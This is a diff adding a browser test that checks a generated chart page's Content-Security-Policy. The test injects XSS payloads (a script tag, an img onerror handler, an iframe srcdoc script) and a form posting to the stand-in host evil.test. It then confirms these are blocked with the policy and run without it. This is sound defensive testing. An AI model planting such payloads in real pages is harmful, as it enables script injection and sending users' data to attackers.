@@ -23,6 +23,31 @@ def test_plots_are_drawn_without_network_or_errors(opened):
     assert complaints == []
 
 
+def test_its_policy_stops_every_script_but_its_own(browser, written, tmp_path):
+    """A text of a student's that came through unescaped would do nothing; without the policy, it would."""
+    page = written.read_text(encoding="utf-8")
+    acts = "window.pwned = true"
+    hostile = f'<script>{acts}</script><img src="x" onerror="{acts}">'
+    hostile += f'<iframe srcdoc="<script>parent.{acts}</script>"></iframe>'
+    hostile += '<form action="https://evil.test"><button id="send">Send</button></form>'
+    start = page.index('<meta http-equiv="Content-Security-Policy"')
+    open_page = page[:start] + page[page.index(">", start) + 1 :]
+    for text, stopped in ((page, True), (open_page, False)):
+        path = tmp_path / f"{stopped}.html"
+        path.write_text(text.replace("<main>", f"<main>{hostile}", 1), encoding="utf-8")
+        tab, asked = browser.new_page(), []
+        tab.on("request", lambda request, asked=asked: asked.append(request.url))
+        tab.goto(path.as_uri())
+        tab.wait_for_timeout(300)
+        assert (tab.evaluate("window.pwned") is None) is stopped
+        tab.locator("#send").click(no_wait_after=True)
+        tab.wait_for_timeout(300)
+        assert any("evil.test" in url for url in asked) is not stopped
+        if stopped:
+            expect(tab.locator(".js-plotly-plot .main-svg").first).to_be_visible()
+        tab.close()
+
+
 def test_the_page_does_not_scroll_sideways(opened):
     page, _ = opened
     assert page.evaluate("document.documentElement.scrollWidth") <= page.viewport_size["width"]
